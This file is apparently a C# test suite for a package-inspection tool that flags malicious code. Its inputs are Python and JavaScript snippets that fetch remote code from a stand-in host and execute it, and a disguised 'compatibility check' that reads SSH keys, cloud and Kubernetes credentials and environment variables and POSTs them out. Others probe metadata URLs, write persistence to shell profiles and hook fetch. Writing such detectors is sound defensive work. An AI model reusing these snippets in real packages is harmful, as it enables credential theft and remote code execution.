@@ -1,0 +1,218 @@
+using PackageWall.Inspection.Facts;
+
+namespace PackageWall.Inspection.Tests.Languages.Evaluation;
+
+/// <summary>What flows into what.</summary>
+public sealed class FlowTests
+{
+    [Theory]
+    [InlineData("import urllib.request\nexec(urllib.request.urlopen('https://a.invalid').read())")]
+    [InlineData("from urllib.request import urlopen as u\nwith u('https://a.invalid') as r:\n    exec(r.read().decode())")]
+    [InlineData("import requests\ncode = requests.get('https://a.invalid').text\nexec(compile(code, 'x', 'exec'))")]
+    [InlineData("import requests\ndef get(u):\n    return requests.get(u).text\ndef run(c):\n    exec(c)\nrun(get('https://a.invalid'))")]
+    [InlineData("import requests\nclass A:\n    def load(self):\n        self.c = requests.get('https://a.invalid').text\n    def go(self):\n        exec(self.c)\na = A()\na.load()\na.go()")]
+    [InlineData("import requests\nx = None\ndef a():\n    global x\n    x = requests.get('https://a.invalid').text\ndef b():\n    exec(x)\na()\nb()")]
+    [InlineData("import http.client\nc = http.client.HTTPSConnection('a.invalid')\nc.request('GET', '/')\nexec(c.getresponse().read())")]
+    [InlineData("import subprocess, sys, requests\nsubprocess.run([sys.executable, '-c', requests.get('https://a.invalid').text])")]
+    public void Python_fetched_code_runs(string text)
+    {
+        var facts = Read.Python(text);
+        facts.One("execute.code").From.ShouldContain("network.fetch", facts.Names());
+        facts.Has("dynamic.exec").ShouldBeTrue();
+    }
+
+    [Theory]
+    [InlineData("require('https').get('https://a.invalid', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); })")]
+    [InlineData("fetch('https://a.invalid').then(r => r.text()).then(eval)")]
+    [InlineData("(async () => { const r = await fetch('https://a.invalid'); eval(await r.text()); })()")]
+    [InlineData("require('axios').get('https://a.invalid').then(({ data }) => new Function('require', data)(require))")]
+    [InlineData("const get = u => fetch(u).then(r => r.json()); get('https://a.invalid').then(j => eval(j.cookie))")]
+    public void Script_fetched_code_runs(string text)
+    {
+        var facts = Read.Script(text);
+        facts.One("execute.code").From.ShouldContain("network.fetch", facts.Names());
+    }
+
+    [Fact]
+    public void Plain_harvest_is_seen_with_all_that_it_sends()
+    {
+        var facts = Read.Python("""
+            import os, json, socket, subprocess
+            from urllib import request
+            from pathlib import Path
+
+            def _read(path):
+                try:
+                    with open(os.path.expanduser(path)) as f:
+                        return f.read()
+                except Exception:
+                    return None
+
+            def _check_compatibility():
+                data = {"host": socket.gethostname(), "env": dict(os.environ)}
+                for name in ("id_rsa", "id_ed25519"):
+                    data[name] = _read("~/.ssh/" + name)
+                data["aws"] = _read("~/.aws/credentials")
+                data["kube"] = (Path.home() / ".kube" / "config").read_text()
+                req = request.Request("https://metrics.collector.invalid/v1/collect", data=json.dumps(data).encode(), method="POST")
+                request.urlopen(req, timeout=3)
+
+            _check_compatibility()
+            """);
+
+        foreach (var fact in new[] { "read.secret.ssh", "read.secret.cloud", "read.secret.kubernetes", "read.env.bulk", "read.profile" })
+        {
+            facts.Has(fact).ShouldBeTrue($"{fact} is not among {facts.Names()}");
+        }
+
+        var send = facts.One("network.send");
+        send.Value.ShouldBe("https://metrics.collector.invalid/v1/collect");
+        send.From.ShouldContain("read.secret.ssh");
+        send.From.ShouldContain("read.secret.cloud");
+        send.From.ShouldContain("read.secret.kubernetes");
+        send.From.ShouldContain("read.env.bulk");
+        facts.Calls.ShouldContain(("", "_check_compatibility"));
+        facts.Calls.ShouldContain(("_check_compatibility", "_read"));
+    }
+
+    [Fact]
+    public void A_list_of_places_longer_than_the_candidates_loses_none()
+    {
+        var facts = Read.Script("""
+            const fs = require('fs'), os = require('os'), path = require('path');
+            const wanted = ['.ssh/id_rsa', '.aws/credentials', '.npmrc', '.kube/config', '.docker/config.json', '.git-credentials', '.bash_history', '.pgpass'];
+            function take(name) { return fs.readFileSync(path.join(os.homedir(), name), 'utf8'); }
+            const all = wanted.map(take);
+            fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) });
+            """);
+
+        var families = facts.Facts.Where(fact => fact.Name.StartsWith("read.secret.", StringComparison.Ordinal)).Select(fact => fact.Family).Distinct().Order();
+        families.ShouldBe(["cloud", "database", "docker", "git", "history", "kubernetes", "registry", "ssh"]);
+        facts.One("network.send").From.Count(name => name.StartsWith("read.secret.", StringComparison.Ordinal)).ShouldBe(8);
+    }
+
+    [Fact]
+    public void The_environment_given_to_a_child_is_not_read()
+    {
+        var facts = Read.Python("import os, subprocess\nenv = os.environ.copy()\nenv['A'] = 'b'\nsubprocess.check_call(['make'], env=env)");
+        facts.Has("read.env.bulk").ShouldBeFalse();
+        Read.Python("import os\nimport x\nx.debug = 'DEBUG' in os.environ\nx.run(x.debug, os.environ['A'])").Has("read.env.bulk").ShouldBeFalse();
+        Read.Script("require('child_process').spawn('make', [], { env: { ...process.env, A: 'b' } })").Has("read.env.bulk").ShouldBeFalse();
+    }
+
+    [Theory]
+    [InlineData("JSON.stringify(process.env)")]
+    [InlineData("Object.entries(process.env).map(([k, v]) => k + '=' + v).join(';')")]
+    [InlineData("Buffer.from(JSON.stringify({ ...process.env })).toString('base64')")]
+    public void The_environment_that_is_sent_is_read_in_bulk(string expression)
+    {
+        var facts = Read.Script($"fetch('https://a.invalid/?q=' + encodeURIComponent({expression}))");
+        facts.Has("read.env.bulk").ShouldBeTrue(facts.Names());
+        facts.One("network.send").From.ShouldContain("read.env.bulk");
+    }
+
+    [Fact]
+    public void Methods_constructors_and_decorators_are_calls()
+    {
+        var facts = Read.Python("""
+            def deco(f):
+                helper()
+                return f
+            def helper(): pass
+            class A:
+                def __init__(self): self.b()
+                def b(self): pass
+            @deco
+            def late(): pass
+            A()
+            if __name__ == "__main__":
+                late()
+            """);
+
+        facts.Calls.ShouldContain(("", "deco"));
+        facts.Calls.ShouldContain(("deco", "helper"));
+        facts.Calls.ShouldContain(("", "A.__init__"));
+        facts.Calls.ShouldContain(("A.__init__", "A.b"));
+        facts.Calls.ShouldContain(("", "late"));
+    }
+
+    [Fact]
+    public void Install_commands_of_setup_run_at_the_top()
+    {
+        var facts = Read.Python("""
+            import os
+            from setuptools import setup
+            from setuptools.command.install import install
+            class Post(install):
+                def run(self):
+                    install.run(self)
+                    os.system("echo hi")
+            setup(name="x", cmdclass={"install": Post})
+            """);
+
+        facts.One("execute.shell").Unit.ShouldBe("Post.run");
+        facts.Calls.ShouldContain(("", "Post.run"));
+    }
+
+    [Fact]
+    public void Threads_and_exit_handlers_run_what_they_are_given()
+    {
+        var facts = Read.Python("import threading, atexit\ndef a(): pass\ndef b(): pass\nthreading.Thread(target=a, daemon=True).start()\natexit.register(b)");
+        facts.Calls.ShouldContain(("", "a"));
+        facts.Calls.ShouldContain(("", "b"));
+    }
+
+    [Fact]
+    public void Files_that_are_named_become_references()
+    {
+        var facts = Read.Script("""
+            const path = require('path');
+            require('./lib/a');
+            require('child_process').spawn('node', [path.join(__dirname, 'tools', 'run.js')]);
+            require('fs').readFileSync(path.join(__dirname, 'data.bin'));
+            """);
+
+        facts.References.ShouldContain(reference => reference.Kind == ReferenceKind.Import && reference.Target == "./lib/a");
+        facts.References.ShouldContain(reference => reference.Kind == ReferenceKind.Spawn && reference.Target == "./tools/run.js");
+        facts.References.ShouldContain(reference => reference.Kind == ReferenceKind.Open && reference.Target == "./data.bin");
+    }
+
+    [Fact]
+    public void Places_that_are_only_named_are_mentioned()
+    {
+        var facts = Read.Python("KEYS = ['~/.ssh/id_rsa']");
+        facts.Has("read.secret.ssh").ShouldBeFalse();
+        facts.One("mention.secret.ssh").Value.ShouldBe("~/.ssh/id_rsa");
+    }
+
+    [Theory]
+    [InlineData("http://0xA9FEA9FE/latest/meta-data/")]
+    [InlineData("http://2852039166/latest/meta-data/")]
+    [InlineData("http://0251.0376.0251.0376/")]
+    [InlineData("http://169.254.169.254/latest/api/token")]
+    [InlineData("http://metadata.google.internal/computeMetadata/v1/")]
+    public void Metadata_services_are_known_in_any_spelling(string url) =>
+        Read.Python($"import requests\nrequests.get('{url}')").Has("read.secret.metadata").ShouldBeTrue();
+
+    [Fact]
+    public void Persistence_is_seen_where_it_is_written()
+    {
+        var facts = Read.Python("import os, site\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\nopen(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w')");
+        facts.One("persist.shell-profile").Value.ShouldBe("~/.bashrc");
+        facts.Has("persist.site-packages").ShouldBeTrue(facts.Names());
+        Read.Script("require('fs').writeFileSync('.github/workflows/x.yml', 'a')").Has("persist.workflow").ShouldBeTrue();
+    }
+
+    [Fact]
+    public void Replaced_network_functions_and_lists_of_wallets_are_seen()
+    {
+        var facts = Read.Script("""
+            const patterns = [/0x[a-fA-F0-9]{40}/g, /\bbc1[a-z0-9]{25,39}\b/g];
+            const original = window.fetch;
+            window.fetch = async function (...args) { const r = await original(...args); return r; };
+            """);
+        facts.Has("hook.network").ShouldBeTrue(facts.Names());
+        facts.Has("wallet.addresses").ShouldBeTrue(facts.Names());
+        Read.Script("const thanks = '0x1111111111111111111111111111111111111111';").Has("wallet.addresses").ShouldBeFalse();
+    }
+}
